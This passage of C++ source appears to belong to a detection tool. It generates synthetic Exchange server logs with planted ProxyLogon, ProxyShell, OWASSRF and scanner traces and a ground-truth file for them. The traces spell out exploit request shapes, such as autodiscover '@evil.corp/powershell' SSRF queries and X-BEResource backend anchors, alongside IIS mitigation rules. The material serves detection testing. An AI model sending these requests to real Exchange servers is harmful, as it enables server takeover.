                    h.stem = "/owa/mastermailbox%40outlook.com/powershell";
                    h.protocol = "Owa";
                    auto fe = s.Iis(h, false);
                    tr.Add(fe, "exchange.owassrf.iis_owa_powershell_success");
                    tr.Add(s.HttpProxy(h), "exchange.owassrf.httpproxy_owa_powershell_success");
                    tr.Add(s.Rps(t0 + 40, "CONTOSO\\carol.brown", ip + " 10.0.0.5", 200, ua, "Get-Mailbox"),
                           "exchange.owassrf.rps_clientinfo_success");
                  },
                  "owassrf"});
}

void PlantScanners(TimeMs t0, std::vector<Planted>* out) {
  out->push_back({t0,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0, "162.142.125.9",
                                      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) Chrome/69.0.3497.100");
                    h.stem = "/owa/auth/x.js";
                    h.protocol = "Owa";
                    h.anchor = "ServerInfo~localhost/ecp/default.flt?";
                    h.routing_hint = "X-AnonResource-Backend-Cookie";
                    h.status = 500;
                    s.Iis(h, false);
                    tr.Add(s.HttpProxy(h), "exchange.proxylogon.localhost_probe");
                  },
                  "scanners"});
  out->push_back({t0 + 60000,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0 + 60000, "167.94.138.60", "Mozilla/5.0 zgrab/0.x");
                    h.stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application";
                    h.protocol = "Ecp";
                    h.anchor = "ServerVersion~Version 15.0 (Build 0.0)";
                    h.routing_hint = "EDiscoveryExportTool-ServerVersion";
                    s.Iis(h, false);
                    tr.Add(s.HttpProxy(h), "exchange.scanner.exporttool_fingerprint");
                  },
                  "scanners"});
  out->push_back({t0 + 120000,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0 + 120000, "71.6.199.23", "Mozilla/5.0 zgrab/0.x");
                    h.stem = "/autodiscover/autodiscover.json";
                    h.query = "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com";
                    h.status = 302;
                    tr.Add(s.Iis(h, false), "exchange.scanner.autodiscover_probe");
                  },
                  "scanners"});
  out->push_back({t0 + 180000,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0 + 180000, "45.155.205.233", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
                    h.stem = "/aspnet_client/system_web/log.aspx";
                    h.status = 404;
                    tr.Add(s.Iis(h, false), "exchange.webshell.request_looking");
                  },
                  "scanners"});
}

void PlantPatched(TimeMs t0, std::vector<Planted>* out) {
  const std::string ip = "193.142.146.35";
  out->push_back(
      {t0,
       [=](Server& s, Traces& tr) {
         Http h = Attacker(t0, ip, "python-requests/2.26.0");
         h.method = "POST";
         h.stem = "/autodiscover/autodiscover.json";
         h.query =
             "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp";
         h.status = 401;
         auto fe = s.Iis(h, false);
         tr.Add(fe, "exchange.proxyshell.iis_autodiscover_failed");
         tr.Add(fe, "exchange.scanner.autodiscover_probe");
       },
       "patched"});
  out->push_back({t0 + 5000,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0 + 5000, ip, "python-requests/2.26.0");
                    h.method = "POST";
                    h.stem = "/ecp/x.js";
                    h.protocol = "Ecp";
                    h.anchor =
                        "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/"
                        "SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#";
                    h.status = 500;
                    tr.Add(s.Iis(h, false), "exchange.proxylogon.iis_ssrf_entry");
                    tr.Add(s.HttpProxy(h), "exchange.proxylogon.reset_vdir_failed");
                  },
                  "patched"});
  out->push_back(
      {t0 + 9000,
       [=](Server& s, Traces& tr) {
         tr.Add(s.Rps(t0 + 9000, "CONTOSO\\erin.davis", ip + " 10.0.0.5", 500, "python-requests/2.28.1", "Get-Mailbox"),
                "exchange.owassrf.rps_clientinfo_failed");
       },
       "patched"});
  out->push_back({t0 + 12000,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0 + 12000, ip, "python-requests/2.28.1");
                    h.user = "CONTOSO\\erin.davis";
                    h.method = "POST";
                    h.stem = "/owa/erin.davis%40contoso.com/powershell";
                    h.status = 401;
                    tr.Add(s.Iis(h, false), "exchange.owassrf.iis_owa_powershell_failed");
                  },
                  "patched"});
}

void AppendJsonString(std::string& out, std::string_view s) {
  out += '"';
  AppendJsonEscaped(out, s);
  out += '"';
}

}  // namespace

const std::vector<std::string>& ScenarioNames() {
  static const std::vector<std::string> names = {"proxylogon", "proxyshell", "proxynotshell",
                                                 "owassrf",    "scanners",   "patched"};
  return names;
}

Result<GenResult> GenerateTree(const GenOptions& o) {
  if (!ParseBuild(o.build)) return Status::InvalidArgument("bad build '" + o.build + "'");
  if (o.mitigation != "none" && o.mitigation != "eomt" && o.mitigation != "eomtv2" && o.mitigation != "eomtv2-old" &&
      o.mitigation != "eomtv2-cleared")
    return Status::InvalidArgument("unknown mitigation '" + o.mitigation + "'");
  for (const auto& s : o.scenarios)
    if (std::find(ScenarioNames().begin(), ScenarioNames().end(), s) == ScenarioNames().end())
      return Status::InvalidArgument("unknown scenario '" + s + "'");
  if (o.out.empty()) return Status::InvalidArgument("no output folder");
  if (!MakeDirs(o.out)) return Status::IoError("cannot create " + o.out);
  GenResult res;
  res.scenarios = o.scenarios;
  Server server(o, &res);
  const TimeMs span = TimeMs(o.hours * 3600000.0);
  std::vector<Planted> planted;
  EventLogPlan events;
  // Each chain lands at its own fraction of the benign window.
  double slot = 0.15;
  for (const auto& s : o.scenarios) {
    TimeMs t0 = o.start + TimeMs(double(span) * slot);
    slot += 0.12;
    events.scenarios.emplace_back(s, t0);
    if (s == "proxylogon")
      PlantProxyLogon(t0, server.WinInstall(), &planted);
    else if (s == "proxyshell")
      PlantProxyShell(t0, &planted);
    else if (s == "proxynotshell")
      PlantProxyNotShell(t0, &planted);
    else if (s == "owassrf")
      PlantOwassrf(t0, &planted);
    else if (s == "scanners")
      PlantScanners(t0, &planted);
    else if (s == "patched")
      PlantPatched(t0, &planted);
  }
  std::stable_sort(planted.begin(), planted.end(), [](const Planted& a, const Planted& b) { return a.t < b.t; });
  // An Exchange install folder holds Bin next to Logging: leave a marker there.
  MakeDirs(o.out + "/" + o.install + "/Bin");
  MakeDirs(o.out + "/" + o.install + "/ClientAccess/OAB");
  MakeDirs(o.out + "/" + o.install + "/FrontEnd/HttpProxy/owa/auth/" + server.cu_path() + "/themes/resources");
  auto write_file = [&](const std::string& rel, const std::string& data) {
    std::string full = o.out + "/" + rel;
    MakeDirs(full.substr(0, full.rfind('/')));
    FILE* f = fopen(full.c_str(), "wb");
    if (!f) return false;
    fwrite(data.data(), 1, data.size(), f);
    fclose(f);
    return true;
  };
  if (o.write_exsetup && !write_file(o.install + "/Bin/ExSetup.exe", MakeVersionPe(server.build())))
    return Status::IoError("cannot write ExSetup.exe under " + o.out);
  write_file(o.install + "/FrontEnd/HttpProxy/owa/auth/" + server.cu_path() + "/themes/resources/logon.css",
             "/* logon */\n");
  {
    std::string rules;
    const std::string eomt =
        "        <rule name=\"X-AnonResource-Backend Abort - inbound\">\n          <match url=\".*\" />\n"
        "          <conditions>\n            <add input=\"{HTTP_COOKIE}\" pattern=\"(.*)X-AnonResource-Backend(.*)\" "
        "/>\n"
        "          </conditions>\n          <action type=\"AbortRequest\" />\n        </rule>\n"
        "        <rule name=\"X-BEResource Abort - inbound\" stopProcessing=\"true\">\n          <match url=\".*\" />\n"
        "          <conditions>\n            <add input=\"{HTTP_COOKIE}\" pattern=\"(.*)X-BEResource=(.+)/(.+)~(.+)\" "
        "/>\n"
        "          </conditions>\n          <action type=\"AbortRequest\" />\n        </rule>\n";
    auto pns = [](const std::string& input, const std::string& pattern) {
      return "        <rule name=\"PowerShell - inbound\" stopProcessing=\"true\">\n          <match url=\".*\" />\n"
             "          <conditions>\n            <add input=\"" +
             input + "\" pattern=\"" + pattern +
             "\" />\n"
             "          </conditions>\n          <action type=\"AbortRequest\" />\n        </rule>\n";
    };
    if (o.mitigation == "eomt") rules = eomt;
    if (o.mitigation == "eomtv2" || o.mitigation == "eomtv2-cleared")
      rules = pns("{UrlDecode:{REQUEST_URI}}", "(?=.*autodiscover)(?=.*powershell)");
    if (o.mitigation == "eomtv2-old") rules = pns("{REQUEST_URI}", ".*autodiscover\\.json.*\\@.*Powershell.*");
    write_file("inetpub/wwwroot/web.config",
               "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n  <system.webServer>\n    <rewrite>\n"
               "      <rules>\n" +
                   rules + "      </rules>\n    </rewrite>\n  </system.webServer>\n</configuration>\n");
    if (o.mitigation == "eomtv2-cleared")
      write_file(o.install + "/FrontEnd/HttpProxy/autodiscover/web.config",
                 "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n  <system.webServer>\n    <rewrite>\n"
                 "      <rules>\n        <clear />\n      </rules>\n    </rewrite>\n  "
                 "</system.webServer>\n</configuration>\n");
    std::string locations;
    for (const char* vdir : {"Default Web Site/owa", "Default Web Site/ecp", "Default Web Site/EWS",
                             "Exchange Back End/owa", "Exchange Back End/ecp", "Exchange Back End/EWS"})
      locations += std::string("  <location path=\"") + vdir +
                   "\" overrideMode=\"Allow\">\n    <system.webServer>\n"
                   "      <security>\n        <authentication>\n          <windowsAuthentication enabled=\"true\">\n"
                   "            <extendedProtection tokenChecking=\"None\" />\n          </windowsAuthentication>\n"
                   "        </authentication>\n      </security>\n    </system.webServer>\n  </location>\n";
    write_file("Windows/System32/inetsrv/config/applicationHost.config",
               "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n  <system.applicationHost>\n"
               "    <applicationPools>\n      <add name=\"MSExchangeECPAppPool\" autoStart=\"true\" />\n"
               "      <add name=\"MSExchangeOABAppPool\" autoStart=\"true\" />\n    </applicationPools>\n"
               "  </system.applicationHost>\n  <system.webServer>\n    <globalModules>\n"
               "      <add name=\"RewriteModule\" image=\"%SystemRoot%\\system32\\inetsrv\\rewrite.dll\" />\n"
               "    </globalModules>\n  </system.webServer>\n" +
                   locations + "</configuration>\n");
  }

  const double mean_gap = 3600000.0 / std::max(1.0, o.requests_per_hour);
  TimeMs t = o.start;
  size_t next = 0;
  TimeMs day = -1;
  res.first = o.start;
  uint64_t n = 0;
  const TimeMs heartbeat = TimeMs(o.heartbeat_hours * 3600000.0);
  TimeMs next_heartbeat = o.start;
  for (;;) {
    bool in_span = t < o.start + span;
    if (!in_span && next >= planted.size()) {
      if (o.target_bytes == 0 || server.bytes_written() >= o.target_bytes) break;
    }
    auto enter_day = [&](TimeMs at) {
      if (DayStart(at) == day) return;
      day = DayStart(at);
      server.CloseBefore(at);
      server.DailyOab(day);
    };
    // Probes and planted traces up to t in time order, each in its own day.
    while (heartbeat > 0) {
      bool probe = next_heartbeat <= t && next_heartbeat < o.start + span;
      bool trace = next < planted.size() && planted[next].t <= t;
      if (!probe && !trace) break;
      if (probe && (!trace || next_heartbeat <= planted[next].t)) {
        enter_day(next_heartbeat);
        server.Heartbeat(next_heartbeat);
        next_heartbeat += heartbeat;
      } else {
        enter_day(planted[next].t);
        Traces tr{&res.traces, planted[next].scenario};
        planted[next].write(server, tr);
        ++next;
      }
    }
    enter_day(t);
    while (next < planted.size() && planted[next].t <= t) {
      Traces tr{&res.traces, planted[next].scenario};
      planted[next].write(server, tr);
      ++next;
    }
    server.Benign(t);
    // Daytime is busier than night.
    int hour = int(t / 3600000 % 24);
    double load = (hour >= 7 && hour <= 19) ? 1.5 : 0.4;
    t += TimeMs(-std::log(1.0 - server.rng().Unit()) * mean_gap / load) + 1;
    if ((++n & 1023) == 0) server.CloseBefore(t - 3600000);
  }
  res.last = t;
  res.bytes = server.bytes_written();
  server.CloseAll();
  if (!server.ok()) return Status::IoError("could not write every file under " + o.out);
  if (o.event_logs) {
    events.first = o.start;
    events.last = res.last;
    events.target_bytes = o.event_log_bytes;
    events.computer = "exch01.contoso.local";
    if (!MakeDirs(o.out + "/Windows/System32/winevt/Logs")) return Status::IoError("cannot create the event log folder");
    Status s = WriteEventLogs(o.out, o.seed, events, &res);
    if (!s.ok()) return s;
  }
  return res;
}

std::string TruthJson(const GenResult& r) {
  std::string out = "{\"scenarios\":[";
  for (size_t i = 0; i < r.scenarios.size(); ++i) {
    if (i) out += ',';
    AppendJsonString(out, r.scenarios[i]);
  }
  out += "],\"first\":";
  AppendJsonString(out, FormatIsoTime(r.first));
  out += ",\"last\":";
  AppendJsonString(out, FormatIsoTime(r.last));
  out += ",\"traces\":[\n";
  for (size_t i = 0; i < r.traces.size(); ++i) {
    const auto& t = r.traces[i];
    out += i ? ",\n" : "";
    out += "{\"scenario\":";
    AppendJsonString(out, t.scenario);
    out += ",\"path\":";
    AppendJsonString(out, t.path);
    out += ",\"line\":" + std::to_string(t.line) + ",\"rule\":";
    AppendJsonString(out, t.rule);
    out += "}";
  }
  out += "\n]}\n";
  return out;
}

}  // namespace exhunt::gen
